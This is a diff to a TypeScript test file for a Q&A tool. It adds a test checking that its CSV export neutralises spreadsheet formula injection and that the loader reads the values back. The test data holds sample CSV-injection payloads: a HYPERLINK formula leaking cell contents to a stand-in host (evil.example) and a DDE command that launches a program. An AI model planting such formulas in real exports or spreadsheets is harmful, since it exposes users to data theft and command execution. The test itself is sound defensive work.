@@ -11,6 +11,7 @@ import {
   type CandidateSource,
   type DraftPair,
 } from '../../src/knowledge/learned-candidates.js';
+import { parseQaCsv } from '../../src/knowledge/qa-loader.js';
 import { closestPair, learnedPairIdOf, learnedPairsCsv, questionSimilarity, SIMILAR_QUESTION_THRESHOLD, type LearnedPair } from '../../src/knowledge/learned-answers.js';
 
 const TWO_TOPICS = `お世話になっております。
@@ -210,5 +211,17 @@ describe('learned pairs as sources and CSV', () => {
       '"question","answer","id","ticket_id","accepted_by","accepted_at","created_at"\r\n' +
         `"He said ""hi"", then?","line 1\nline 2, with comma","learned#3","${'f'.repeat(64)}","op","2026-01-01T00:00:00.000Z","2026-01-01T00:00:00.000Z"\r\n`,
     );
+  });
+
+  // A question comes from a customer's mail; Excel runs a cell that starts with =, +, - or @ as a formula, quoted or
+  // not (=HYPERLINK to a tracking URL, a DDE command). The export neutralises it, and the Q&A loader reads it back.
+  it('exports a cell that starts like a formula as text, and the Q&A loader reads it back as written', () => {
+    const hostile = ['=HYPERLINK("https://evil.example/?q="&A3,"help")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1)', '\t=1+1'];
+    const csv = learnedPairsCsv(hostile.map((q, i) => ({ ...pair(i + 1, q), answer: 'ok' })));
+    for (const line of csv.split('\r\n').slice(1, -1)) expect(line).toMatch(/^"'[=+\-@\t]/);
+    const { pairs } = parseQaCsv(csv, 'learned.csv');
+    expect(pairs.map((p) => p.question)).toEqual(hostile.map((q) => q.trim()));
+    // A quote a person wrote at the start stays.
+    expect(parseQaCsv('question,answer\n"\'quoted\' words",ok\n', 'x.csv').pairs[0]?.question).toBe("'quoted' words");
   });
 });
